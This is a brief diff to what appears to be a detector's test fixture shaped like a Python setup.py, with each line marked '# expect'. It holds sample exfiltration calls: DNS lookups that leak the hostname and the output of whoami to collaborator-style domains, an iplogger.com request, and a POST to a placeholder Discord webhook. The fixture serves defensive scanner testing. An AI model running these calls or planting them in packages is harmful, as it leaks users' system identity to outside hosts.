@@ -13,3 +13,6 @@ name = socket.gethostname().encode().hex()
 socket.gethostbyname(name + ".d.collect.invalid")  # expect
 os.system("nslookup $(whoami).abc.oastify.com")  # expect
 setup(name="sample")
+
+requests.get("https://iplogger.com/2abc")  # expect
+urllib.request.urlopen("https://discord.com/api/webhooks/1000000000000000/abcdefghijklmnopqrstuvwxyz", data=b"new")  # expect
